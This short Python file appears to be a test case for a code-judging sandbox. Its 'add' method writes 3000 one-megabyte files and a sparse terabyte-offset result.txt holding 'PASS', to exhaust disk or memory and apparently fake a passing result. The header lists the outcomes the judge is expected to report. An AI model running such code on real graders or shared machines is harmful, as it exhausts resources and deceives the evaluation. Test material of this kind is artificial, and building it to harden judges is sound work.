# goal: fill the disk or the memory through files: long, many, sparse
# outcome: mle,wrong_answer,tle_cpu
# modes: file_marker,gt_only
# pays: none


class Solution:
    def add(self, a, b):
        block = "x" * (1 << 20)
        for number in range(3000):
            try:
                with open(f"vgrout_attack_{number}", "w") as file:
                    file.write(block)
                with open("result.txt", "wb") as file:
                    file.seek(1 << 40)
                    file.write(b"PASS")
            except (OSError, ValueError):
                continue
        return -1
